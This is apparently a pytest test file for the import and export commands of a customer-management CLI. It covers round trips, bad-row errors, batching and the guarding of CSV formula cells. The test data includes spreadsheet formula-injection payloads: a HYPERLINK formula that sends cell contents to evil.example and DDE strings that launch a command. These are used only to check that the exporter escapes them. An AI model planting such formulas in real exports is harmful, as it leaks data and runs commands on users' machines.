"""``custmodel import`` and ``custmodel export``: CSV and JSON Lines, checked before writing."""

from __future__ import annotations

import csv
import io
import json
from contextlib import redirect_stdout
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pytest

from custmodel import (
    Booking,
    BookingKind,
    Customer,
    CustomerKind,
    NewCustomer,
    SalesChannel,
    Selection,
)
from custmodel.cli._transfer import BOOKING_COLUMNS, CUSTOMER_COLUMNS, Format, Writer
from tests.cli.conftest import SETTINGS, Cli, CountedCli, one_line

NEW_FIELDS = [field.name for field in attrs.fields(NewCustomer)]


def drafts_of(customers: list[Customer]) -> list[dict[str, object]]:
    """What an import keeps of each customer: the fields a new customer has."""
    return [{name: getattr(c, name) for name in NEW_FIELDS} for c in customers]


@pytest.fixture
def source(cli: Cli) -> Cli:
    """A book with customers that use every field, and bookings on an own and external channel."""
    with cli.book() as book:
        book.register(
            CustomerKind.PRIVATE, "Müller", first_name="Jürgen", salutation="Herr",
            company="ACME", street="Königsallee 1", postal_code="40212", city="Düsseldorf",
            country="DE", email="j@example.org", phone="+49 211 1", birth_date=date(1970, 5, 31),
            code1="K-4711", code2="X, Y", notes='Zeile 1\nZeile "2"', category="A",
            status=[1, 2], commission_scheme="P1", fee_schedule="F1",
        )  # fmt: skip
        book.register(CustomerKind.CORPORATE, "Reisewelt GmbH", category="Großkunde")
        book.register(CustomerKind.PROSPECT, "Becker")
        firm = Booking("VG-1", 1, BookingKind.BOOKING, date(2027, 5, 1), "AG1")
        book.record_booking(
            attrs.evolve(
                firm, revenue=Decimal("2480.00"), travel_type="Pauschalreise", destination="Kreta"
            )
        )
        holidu = SalesChannel.external("Holidu")
        offer = Booking("VG-2", 2, BookingKind.OFFER, date(2027, 6, 1), "AG2", holidu)
        book.record_booking(attrs.evolve(offer, open_amount=Decimal("12.50")))
    return cli


@pytest.fixture
def target(tmp_path: Path) -> Cli:
    """An empty second book with the same settings."""
    runner = Cli(f"sqlite:///{tmp_path / 'target.sqlite'}")
    with runner.book() as book:
        book.configure(SETTINGS)
    return runner


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_customers_round_trip(source: Cli, target: Cli, tmp_path: Path, suffix: str) -> None:
    """Customers exported and imported into an empty book come back with the same data."""
    file = tmp_path / f"kunden.{suffix}"
    assert "Exported 3 customers" in source.ok(f"export customers {file}").stdout
    shown = target.ok(f"import customers {file}").stdout
    assert f"Imported 3 of 3 customers (numbers 1 to 3) from kunden.{suffix}." == shown.strip()
    with source.book() as before, target.book() as after:
        assert drafts_of(before.select()) == drafts_of(after.select())


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_bookings_round_trip(source: Cli, target: Cli, tmp_path: Path, suffix: str) -> None:
    """Bookings exported and imported (after their customers) come back the same."""
    customers, bookings = tmp_path / f"k.{suffix}", tmp_path / f"b.{suffix}"
    source.ok(f"export customers {customers}")
    assert "Exported 2 bookings" in source.ok(f"export bookings {bookings}").stdout
    target.ok(f"import customers {customers}")
    data = target.json(f"import bookings {bookings}")
    assert {"file": str(bookings), "imported": 2, "conversions": 0} == data
    with source.book() as before, target.book() as after:
        assert [before.get_booking(r) for r in ("VG-1", "VG-2")] == [
            after.get_booking(r) for r in ("VG-1", "VG-2")
        ]


def test_import_json_reports_the_numbers_given(target: Cli, tmp_path: Path) -> None:
    """--json reports how many were imported and the numbers they got."""
    file = tmp_path / "k.csv"
    file.write_text("kind,last_name\nprivate,A\nprivate,B\n", encoding="utf-8")
    assert {"file": str(file), "imported": 2, "first": 1, "last": 2} == (
        target.json(f"import customers {file}")
    )


def test_a_bad_row_imports_nothing_and_names_the_row(target: Cli, tmp_path: Path) -> None:
    """One bad row among good ones: exit 2, its row and line named, no customer imported."""
    file = tmp_path / "k.csv"
    file.write_text(
        "kind,last_name,birth_date\nprivate,A,\nprivate,B,1970-13-45\nprivate,C,\n",
        encoding="utf-8",
    )
    result = target(f"import customers {file} --batch-size 1")
    assert 2 == result.exit_code
    assert "1 bad row in k.csv, nothing was imported: row 2 (line 3): birth_date" in (
        one_line(result.stderr)
    )
    assert "1970-13-45" not in result.stderr
    with target.book() as book:
        assert 0 == book.count(Selection(include_merged=True))


def test_every_bad_row_is_counted(target: Cli, tmp_path: Path) -> None:
    """The error names the first bad rows and counts the rest."""
    file = tmp_path / "k.jsonl"
    file.write_text('{"kind": "nope", "last_name": "X"}\n' * 7, encoding="utf-8")
    result = target(f"import customers {file}")
    assert 2 == result.exit_code
    assert "7 bad rows" in result.stderr
    assert (
        "line 5: kind: must be one of: private, corporate, travel_agency, prospect; and 2 more"
        in (result.stderr)
    )


def test_a_category_the_kind_does_not_list_is_a_bad_row(target: Cli, tmp_path: Path) -> None:
    """Rows are checked against the kind's categories before anything is written."""
    file = tmp_path / "k.csv"
    file.write_text("kind,last_name,category\nprivate,A,A\nprivate,B,Z\n", encoding="utf-8")
    result = target(f"import customers {file}")
    assert (2, "row 2 (line 3)" in result.stderr) == (result.exit_code, True)


def test_an_unlabelled_flag_is_a_bad_row(target: Cli, tmp_path: Path) -> None:
    """A status flag the kind does not label is refused in the checking pass."""
    file = tmp_path / "k.csv"
    file.write_text("kind,last_name,status\nprivate,A,1 7\n", encoding="utf-8")
    assert 2 == target(f"import customers {file}").exit_code


def test_a_file_without_header_does_not_repeat_its_first_row(target: Cli, tmp_path: Path) -> None:
    """A header row that is really data is refused without echoing the data."""
    file = tmp_path / "k.csv"
    file.write_text("private,Müller,anna.mueller@example.org\n", encoding="utf-8")
    result = target(f"import customers {file}")
    assert 2 == result.exit_code
    assert ("Müller" in result.stderr, "anna" in result.stderr) == (False, False)
    assert "private" in result.stderr


def test_unknown_json_fields_are_named_by_position(target: Cli, tmp_path: Path) -> None:
    """A JSON field custmodel does not know is refused by its position, not its name."""
    file = tmp_path / "k.jsonl"
    file.write_text('{"kind": "private", "last_name": "A", "nickname": "x"}\n', encoding="utf-8")
    result = target(f"import customers {file}")
    assert result.stderr.endswith("line 1: fields custmodel does not import: field 3\n")


def test_a_misspelt_column_is_named_with_the_field_it_resembles(
    target: Cli, tmp_path: Path
) -> None:
    """A header name custmodel does not know is named by position and the likely field."""
    file = tmp_path / "k.csv"
    file.write_text("kind,lastname\nprivate,A\n", encoding="utf-8")
    result = target(f"import customers {file}")
    assert (
        "error: the header row (line 1) names columns custmodel does not import: column 2 (perhaps "
        "last_name)"
    ) == one_line(result.stderr)


def test_invalid_json_names_the_line(target: Cli, tmp_path: Path) -> None:
    """A line that is no JSON object is a bad row with its line number."""
    file = tmp_path / "k.jsonl"
    file.write_text('{"kind": "private", "last_name": "A"}\n\n[1]\n{oops\n', encoding="utf-8")
    result = target(f"import customers {file}")
    assert "line 3: not a JSON object; line 4: not valid JSON" in result.stderr


def test_merged_rows_are_not_imported(source: Cli, target: Cli, tmp_path: Path) -> None:
    """An export holding a merged customer is refused: tombstones are no customers to import."""
    source.ok("customer register private Mueller")
    source.ok("merge apply 1 4 --yes")
    file = tmp_path / "k.csv"
    source.ok(f"export customers {file} --include-merged")
    result = target(f"import customers {file}")
    assert "merged_into is set: merged customers (tombstones) are not imported" in result.stderr


def test_a_failure_while_writing_keeps_the_batches_before_it(target: Cli, tmp_path: Path) -> None:
    """Past the kind's debtor range, the batch fails: exit 1, earlier batches stay, and the
    error says from which row nothing was imported."""
    target.ok("settings set --kind private --debtor-max 10002")
    file = tmp_path / "k.csv"
    file.write_text("kind,last_name\nprivate,A\nprivate,B\nprivate,C\n", encoding="utf-8")
    result = target(f"import customers {file} --batch-size 2")
    assert 1 == result.exit_code
    assert "at row 3 (line 4); the 2 customers before it were imported" in result.stderr
    with target.book() as book:
        assert ["A", "B"] == [c.last_name for c in book.select()]


def test_a_file_up_to_the_batch_size_is_all_or_nothing(target: Cli, tmp_path: Path) -> None:
    """A failure in a single batch leaves the book unchanged."""
    target.ok("settings set --kind private --debtor-max 10002")
    file = tmp_path / "k.csv"
    file.write_text("kind,last_name\nprivate,A\nprivate,B\nprivate,C\n", encoding="utf-8")
    assert 1 == target(f"import customers {file}").exit_code
    with target.book() as book:
        assert 0 == book.count()


def test_bookings_of_unknown_or_anonymized_customers_are_bad_rows(
    source: Cli, tmp_path: Path
) -> None:
    """Each booking's customer must exist and take bookings; else nothing is imported."""
    source.ok("gdpr anonymize 3 --agency AG1 --yes")
    file = tmp_path / "b.csv"
    file.write_text(
        "reference,customer,kind,departure,point_of_sale\n"
        "VG-8,1,booking,2027-01-01,AG1\nVG-9,99,booking,2027-01-01,AG1\n"
        "VG-10,3,offer,2027-01-01,AG1\n",
        encoding="utf-8",
    )
    result = source(f"import bookings {file}")
    assert 2 == result.exit_code
    assert "row 2 (line 3): customer 99 not found" in result.stderr
    assert "row 3 (line 4): customer 3 is anonymized" in result.stderr
    with source.book() as book:
        assert ["VG-1"] == [b.reference for b in book.bookings(1)]


def test_a_reference_twice_in_a_file_is_refused_naming_both_rows(
    source: Cli, tmp_path: Path
) -> None:
    """Two rows with one reference refuse the file before anything is written; no cell is shown."""
    file = tmp_path / "b.csv"
    file.write_text(
        "reference,customer,kind,departure,point_of_sale\n"
        "VG-7,1,booking,2027-01-01,AG1\nVG-8,1,booking,2027-01-01,AG1\n"
        "VG-7,2,offer,2027-02-01,AG2\n",
        encoding="utf-8",
    )
    result = source(f"import bookings {file}")
    with source.book() as book:
        stored = [b.reference for b in book.bookings(1) + book.bookings(2)]
    assert (
        2,
        "error: 1 bad row in b.csv, nothing was imported: row 3 (line 4): the same booking "
        "reference as row 1 (line 2)",
        ["VG-1", "VG-2"],
    ) == (result.exit_code, one_line(result.stderr), stored)


def test_a_reference_of_another_customer_is_refused_naming_row_and_reference(
    source: Cli, tmp_path: Path
) -> None:
    """A row giving customer 1's booking VG-1 to customer 2 is refused; nothing is written."""
    file = tmp_path / "b.csv"
    file.write_text(
        "reference,customer,kind,departure,point_of_sale\n"
        "VG-8,2,booking,2027-01-01,AG1\nVG-1,2,booking,2027-01-01,AG1\n",
        encoding="utf-8",
    )
    result = source(f"import bookings {file}")
    with source.book() as book:
        stored = (book.get_booking("VG-1").customer, [b.reference for b in book.bookings(2)])
    assert (1, ["VG-2"]) == stored
    assert 2 == result.exit_code
    assert "row 2 (line 3): booking 'VG-1' belongs to customer 1, not to customer 2" in one_line(
        result.stderr
    )


def test_a_reference_of_the_same_customer_changes_its_booking(source: Cli, tmp_path: Path) -> None:
    """A row with customer 1's own reference VG-1 changes that booking, as record_booking does."""
    file = tmp_path / "b.csv"
    file.write_text(
        "reference,customer,kind,departure,point_of_sale,open_amount\n"
        "VG-1,1,booking,2027-01-01,AG2,10.00\n",
        encoding="utf-8",
    )
    source.ok(f"import bookings {file}")
    with source.book() as book:
        stored = book.get_booking("VG-1")
    assert ("AG2", Decimal("10.00")) == (stored.point_of_sale, stored.open_amount)


def test_importing_a_firm_booking_converts_a_prospect(source: Cli, tmp_path: Path) -> None:
    """Bookings are recorded as record_booking does: a prospect's firm booking converts it."""
    file = tmp_path / "b.csv"
    file.write_text(
        "reference,customer,kind,departure,point_of_sale,channel,channel_external\n"
        "VG-3,3,booking,2027-01-01,AG1,Holidu,true\n",
        encoding="utf-8",
    )
    shown = source.ok(f"import bookings {file}").stdout
    assert "Imported 1 of 1 booking from b.csv; 1 prospect became a customer." == shown.strip()
    with source.book() as book:
        assert (CustomerKind.PRIVATE, True) == (
            book.get(3).kind,
            book.get_booking("VG-3").channel.is_external,
        )


def test_bad_channel_flag_is_a_bad_row(source: Cli, tmp_path: Path) -> None:
    """channel_external takes true or false only."""
    file = tmp_path / "b.csv"
    file.write_text(
        "reference,customer,kind,departure,point_of_sale,channel_external\n"
        "VG-3,1,booking,2027-01-01,AG1,vielleicht\n",
        encoding="utf-8",
    )
    result = source(f"import bookings {file}")
    assert (2, "channel_external must be true or false" in result.stderr) == (
        result.exit_code,
        True,
    )


def test_missing_required_columns_are_named(target: Cli, tmp_path: Path) -> None:
    """A header without last_name is refused before any row is read."""
    file = tmp_path / "k.csv"
    file.write_text("kind\nprivate\n", encoding="utf-8")
    result = target(f"import customers {file}")
    assert "the header row (line 1) lacks the columns last_name" in result.stderr


def test_a_file_that_is_not_utf8_is_read_as_windows_1252(target: Cli, tmp_path: Path) -> None:
    """Latin-1 text is not UTF-8: it is read as Windows-1252, and the import says so."""
    file = tmp_path / "k.csv"
    file.write_bytes("kind,last_name\nprivate,Müller\n".encode("latin-1"))
    result = target.ok(f"import customers {file}")
    assert "k.csv is not UTF-8 (line 2 is not): read as Windows-1252" in result.stderr
    with target.book() as book:
        assert ["Müller"] == [c.last_name for c in book.select()]


def test_a_missing_file_is_a_usage_error(target: Cli, tmp_path: Path) -> None:
    """Importing a file that does not exist exits with 2."""
    assert 2 == target(f"import customers {tmp_path / 'nope.csv'}").exit_code


def test_an_unknown_suffix_needs_format(source: Cli, tmp_path: Path) -> None:
    """Without a known suffix the format must be named; then it is used."""
    file = tmp_path / "kunden.txt"
    assert 2 == source(f"export customers {file}").exit_code
    source.ok(f"export customers {file} --format jsonl")
    assert 3 == len(file.read_text(encoding="utf-8").splitlines())


def test_export_to_stdout_writes_only_the_data(source: Cli) -> None:
    """FILE - writes the rows to stdout, one JSON object per line."""
    lines = source.ok("export customers - --format jsonl --kind private").stdout.splitlines()
    assert ["Müller"] == [json.loads(line)["last_name"] for line in lines]


def test_export_to_stdout_with_json_is_a_usage_error(source: Cli) -> None:
    """--json with - would mix the summary into the data: exit 2."""
    assert 2 == source("export customers - --format csv --json").exit_code


def test_export_leaves_no_partial_file(source: Cli, tmp_path: Path) -> None:
    """The export is written under FILE.part and renamed when complete."""
    file = tmp_path / "b.csv"
    data = source.json(f"export bookings {file} --customer 2")
    assert {"file": str(file), "format": "csv", "exported": 1} == data
    assert ["b.csv"] == sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("b."))


def test_export_selects_with_the_selection_options(source: Cli, tmp_path: Path) -> None:
    """The selection options choose the exported customers."""
    file = tmp_path / "k.csv"
    source.ok(f"export customers {file} --kind corporate")
    assert 2 == len(file.read_text(encoding="utf-8").splitlines())


def test_progress_shows_on_a_terminal_and_never_with_json(source: Cli, tmp_path: Path) -> None:
    """On a terminal the progress bar goes to stderr; --json hides it and stdout stays JSON."""
    file = tmp_path / "k.csv"
    source.ok(f"export customers {file}")
    terminal = {"TTY_COMPATIBLE": "1"}
    shown = source(f"export customers {file}", env=terminal)
    quiet = source(f"export customers {file} --json", env=terminal)
    assert ("Exporting customers" in shown.stderr, "", 3) == (
        True,
        quiet.stderr,
        json.loads(quiet.stdout)["exported"],
    )


def test_import_progress_never_breaks_json(target: Cli, source: Cli, tmp_path: Path) -> None:
    """An import on a terminal with --json prints only JSON on stdout and nothing on stderr."""
    file = tmp_path / "k.csv"
    source.ok(f"export customers {file}")
    result = target(f"import customers {file} --json", env={"TTY_COMPATIBLE": "1"})
    assert (0, "", 3) == (result.exit_code, result.stderr, json.loads(result.stdout)["imported"])
    shown = target(f"import customers {file}", env={"TTY_COMPATIBLE": "1"})
    assert "Checking k.csv" in shown.stderr


def test_batch_size_below_1_is_a_usage_error(target: Cli, tmp_path: Path) -> None:
    """--batch-size 0 exits with 2."""
    file = tmp_path / "k.csv"
    file.write_text("kind,last_name\nprivate,A\n", encoding="utf-8")
    assert 2 == target(f"import customers {file} --batch-size 0").exit_code


def test_a_large_export_reads_the_customers_in_batches(counted: CountedCli, tmp_path: Path) -> None:
    """2,500 customers are read in three pages of at most 1,000, never as one list."""
    cli, store = counted, counted.store
    with cli.book() as book:
        book.register_many([NewCustomer(CustomerKind.PRIVATE, f"K{n}") for n in range(2500)])
    store.calls.clear()
    file = tmp_path / "k.csv"

    data = cli.json(f"export customers {file}")

    assert (2500, 3, 3, 0) == (
        data["exported"],
        store.calls["select_page"],
        store.calls["limit 1000"],
        store.calls["select"],
    )


def test_an_export_of_bookings_reads_them_page_by_page(counted: CountedCli, tmp_path: Path) -> None:
    """Bookings of 5 customers in pages of 2: three reads of bookings, not one per customer."""
    cli, store = counted, counted.store
    with cli.book() as book:
        for n in range(1, 6):
            book.register(CustomerKind.PRIVATE, f"K{n}")
            book.record_booking(Booking(f"VG-{n}", n, BookingKind.BOOKING, date(2027, 1, 1), "AG1"))
    store.calls.clear()

    lines = cli.ok("export bookings - --format csv --batch-size 2").stdout.splitlines()

    assert (6, 3, 3) == (len(lines), store.calls["bookings_of"], store.calls["select_page"])


def test_exported_bookings_come_by_customer_then_reference(source: Cli) -> None:
    """The booking export lists customer 1's bookings before customer 2's, each by reference."""
    with source.book() as book:
        book.record_booking(Booking("AA-1", 2, BookingKind.BOOKING, date(2027, 1, 1), "AG1"))
        book.record_booking(Booking("ZZ-1", 1, BookingKind.BOOKING, date(2027, 1, 1), "AG1"))
    rows = source.ok("export bookings - --format csv").stdout.splitlines()[1:]
    assert [("1", "VG-1"), ("1", "ZZ-1"), ("2", "AA-1"), ("2", "VG-2")] == [
        (row.split(",")[1], row.split(",")[0]) for row in rows
    ]


def test_export_bookings_follows_the_selection_options(source: Cli) -> None:
    """--kind corporate exports only the corporate customers' bookings."""
    rows = source.ok("export bookings - --format csv --kind corporate").stdout.splitlines()[1:]
    assert ["VG-2"] == [row.split(",")[0] for row in rows]


def test_export_bookings_of_one_customer_takes_no_selection(source: Cli) -> None:
    """--customer with a selection option is a usage error."""
    assert 2 == source("export bookings - --format csv --customer 1 --kind private").exit_code


def test_export_batch_size_below_1_is_a_usage_error(source: Cli) -> None:
    """--batch-size 0 on an export exits with 2."""
    assert 2 == source("export customers - --format csv --batch-size 0").exit_code


#: A cell no column accepts (a control character, no number, no date), with a person's name.
MARKED_CELL = "Hans Mxyzptlk\x07 geb. 1970"


def _file_with(tmp_path: Path, suffix: str, columns: dict[str, str]) -> Path:
    """A one-row import file of ``columns`` in the format ``suffix`` names."""
    file = tmp_path / f"import.{suffix}"
    if suffix == "csv":
        with file.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerows([list(columns), list(columns.values())])
    else:
        file.write_text(json.dumps(columns) + "\n", encoding="utf-8")
    return file


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
@pytest.mark.parametrize("column", [*CUSTOMER_COLUMNS])
def test_a_bad_customer_cell_is_never_repeated(tmp_path: Path, suffix: str, column: str) -> None:
    """Whatever column holds the marked cell, the import's output does not show it."""
    row = {"kind": "private", "last_name": "Neumann", column: MARKED_CELL}
    result = Cli("memory://")(f"import customers {_file_with(tmp_path, suffix, row)}")

    assert (False, False) == ("Mxyzptlk" in result.stderr, "Mxyzptlk" in result.stdout)


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
@pytest.mark.parametrize("column", [c for c in BOOKING_COLUMNS if c != "channel_external"])
def test_a_bad_booking_cell_is_never_repeated(tmp_path: Path, suffix: str, column: str) -> None:
    """Whatever column holds the marked cell, the booking import's output does not show it."""
    row = {
        "reference": "VG-1", "customer": "1", "kind": "booking", "departure": "2027-05-01",
        "point_of_sale": "AG1", column: MARKED_CELL,
    }  # fmt: skip
    result = Cli("memory://")(f"import bookings {_file_with(tmp_path, suffix, row)}")

    assert (2, False) == (result.exit_code, "Mxyzptlk" in result.stderr)


def test_a_money_cell_is_named_by_row_and_column(tmp_path: Path) -> None:
    """A money cell that is no amount is refused naming its row and column, not its content."""
    row = {
        "reference": "VG-1", "customer": "1", "kind": "booking", "departure": "2027-05-01",
        "point_of_sale": "AG1", "open_amount": "Hans Müller geb. 1970",
    }  # fmt: skip
    result = Cli("memory://")(f"import bookings {_file_with(tmp_path, 'csv', row)}")

    assert (
        "error: 1 bad row in import.csv, nothing was imported: row 1 (line 2): open_amount: "
        "not an amount of money"
    ) == one_line(result.stderr)


def test_a_file_without_header_row_names_no_lower_case_cell(tmp_path: Path) -> None:
    """A first data row taken for the header shows no cell, even one that looks like a field."""
    file = tmp_path / "k.csv"
    file.write_text("private,mueller,hans\n", encoding="utf-8")
    result = Cli("memory://")(f"import customers {file}")

    assert (
        "error: the header row (line 1) names columns custmodel does not import: private, "
        "column 2, column 3"
    ) == one_line(result.stderr)


#: Cells a spreadsheet runs as formulas, one per trigger character a customer field can hold
#: (carriage returns are no character of any field; the Writer test covers them).
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    "+": "+49 221 12345",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def csv_rows(text: str) -> list[dict[str, str]]:
    """The rows of CSV text, by column name."""
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_export_customers_guards_formula_cells(cli: Cli, formula: str) -> None:
    """A customer field starting with a formula trigger is written with a leading quote."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, formula, city=formula)

    row = csv_rows(cli.ok("export customers - --format csv").stdout)[0]

    assert ("'" + formula, "'" + formula) == (row["last_name"], row["city"])


def test_export_customers_guards_a_leading_tab(cli: Cli) -> None:
    """Notes starting with a tab (the one field that holds tabs) get a leading quote."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "Tab", notes="\t=1+1")

    row = csv_rows(cli.ok("export customers - --format csv").stdout)[0]

    assert "'\t=1+1" == row["notes"]


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_export_bookings_guards_formula_cells(cli: Cli, formula: str) -> None:
    """Booking texts starting with a formula trigger are written with a leading quote."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "Weber")
        booking = Booking(formula[:100], 1, BookingKind.BOOKING, date(2027, 5, 1), formula[:100])
        book.record_booking(attrs.evolve(booking, destination=formula, travel_type=formula))

    row = csv_rows(cli.ok("export bookings - --format csv").stdout)[0]

    assert ["'" + formula[:100]] * 2 + ["'" + formula] * 2 == [
        row["reference"], row["point_of_sale"], row["destination"], row["travel_type"]
    ]  # fmt: skip


def test_export_raw_cells_writes_formulas_as_stored(cli: Cli) -> None:
    """--raw-cells writes customer and booking cells exactly as stored."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "=1+1")
        booking = Booking("VG-1", 1, BookingKind.BOOKING, date(2027, 5, 1), "AG1")
        book.record_booking(attrs.evolve(booking, destination="@Kreta"))

    customers = csv_rows(cli.ok("export customers - --format csv --raw-cells").stdout)
    bookings = csv_rows(cli.ok("export bookings - --format csv --raw-cells").stdout)

    assert ("=1+1", "@Kreta") == (customers[0]["last_name"], bookings[0]["destination"])


def test_export_leaves_plain_numbers_alone(cli: Cli) -> None:
    """A cell that is a plain number, such as -12.50 or +3, is no formula and stays as it is."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "Zahl", code1="-12.50", code2="+3")

    row = csv_rows(cli.ok("export customers - --format csv").stdout)[0]

    assert ("-12.50", "+3") == (row["code1"], row["code2"])


def test_export_json_lines_hold_formulas_as_stored(cli: Cli) -> None:
    """JSON Lines are no spreadsheet input: values starting with = are written unchanged."""
    with cli.book() as book:
        book.register(CustomerKind.PRIVATE, "=1+1")

    line = cli.ok("export customers - --format jsonl").stdout

    assert "=1+1" == json.loads(line)["last_name"]


@pytest.mark.parametrize(
    "command",
    [
        "export customers - --format jsonl --raw-cells",
        "export bookings x.jsonl --raw-cells",
        "import customers {file} --raw-cells",
    ],
    ids=["export customers", "export bookings", "import customers"],
)
def test_raw_cells_with_json_lines_is_a_usage_error(cli: Cli, tmp_path: Path, command: str) -> None:
    """--raw-cells is about CSV cells: with JSON Lines it is refused with exit code 2."""
    file = tmp_path / "k.jsonl"
    file.write_text('{"kind": "private", "last_name": "A"}\n', encoding="utf-8")

    result = cli(command.format(file=file))

    assert (2, "error: --raw-cells applies to CSV") == (result.exit_code, result.stderr[:33])


#: Every field of a customer that an import takes as text.
TEXT_FIELDS = (
    "last_name", "first_name", "salutation", "company", "street", "postal_code", "city",
    "country", "email", "phone", "code1", "code2", "notes",
)  # fmt: skip
#: Texts starting with every formula trigger a field can hold, with quotes in front of them
#: (as an earlier guard would write them), and quotes that guard nothing.
ROUND_TRIP_TEXTS = [
    *FORMULAS.values(), "'=1+1", "''@x", "'-", "'Hallo'", "'", "''", "-12.50", "+3", "- 5",
]  # fmt: skip


@pytest.mark.parametrize("text", ROUND_TRIP_TEXTS)
def test_formula_cells_survive_export_and_import(target: Cli, tmp_path: Path, text: str) -> None:
    """A customer whose every text field starts with a trigger or a quote comes back the same."""
    file = tmp_path / "k.csv"
    with target.book() as book:
        # Postal codes hold 32 characters at most.
        fields: dict[str, Any] = dict.fromkeys(TEXT_FIELDS, text[:32])
        book.register(CustomerKind.PRIVATE, fields.pop("last_name"), **fields)
    target.ok(f"export customers {file}")

    target.ok(f"import customers {file}")

    with target.book() as book:
        first, second = drafts_of(book.select())
    assert first == second


def test_notes_starting_with_a_tab_survive_export_and_import(target: Cli, tmp_path: Path) -> None:
    """Notes that start with a tab come back from a CSV export unchanged."""
    file = tmp_path / "k.csv"
    with target.book() as book:
        book.register(CustomerKind.PRIVATE, "Tab", notes="\t'=x\n")
    target.ok(f"export customers {file}")

    target.ok(f"import customers {file}")

    with target.book() as book:
        assert ["\t'=x\n", "\t'=x\n"] == [c.notes for c in book.select()]


@pytest.mark.parametrize("text", ROUND_TRIP_TEXTS)
def test_booking_formula_cells_survive_export_and_import(
    source: Cli, target: Cli, tmp_path: Path, text: str
) -> None:
    """A booking whose texts start with a trigger or a quote comes back the same."""
    customers, bookings = tmp_path / "k.csv", tmp_path / "b.csv"
    with source.book() as book:
        booking = Booking(text, 1, BookingKind.BOOKING, date(2027, 5, 1), text)
        book.record_booking(attrs.evolve(booking, destination=text, travel_type=text))
    source.ok(f"export customers {customers}")
    source.ok(f"export bookings {bookings}")

    target.ok(f"import customers {customers}")
    target.ok(f"import bookings {bookings}")

    with source.book() as before, target.book() as after:
        assert before.get_booking(text) == after.get_booking(text)


def test_import_removes_the_guard_of_a_hand_written_cell(target: Cli, tmp_path: Path) -> None:
    """A cell written as '=1+1 is imported as =1+1; with --raw-cells as it is."""
    file = tmp_path / "k.csv"
    file.write_text("kind,last_name,city\nprivate,'=1+1,'Köln'\n", encoding="utf-8")

    target.ok(f"import customers {file}")
    target.ok(f"import customers {file} --raw-cells")

    with target.book() as book:
        assert [("=1+1", "'Köln'"), ("'=1+1", "'Köln'")] == [
            (c.last_name, c.city) for c in book.select()
        ]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_the_writer_guards_every_formula_trigger(trigger: str) -> None:
    """Every OWASP trigger character, carriage return and tab included, gets a quote."""
    sink = io.StringIO()
    with redirect_stdout(sink), Writer("-", Format.CSV, ("a", "b")) as writer:
        writer.write(None, lambda: [f"{trigger}cmd", f"'{trigger}cmd"])

    assert f"a,b\n'{trigger}cmd,''{trigger}cmd\n" == sink.getvalue()
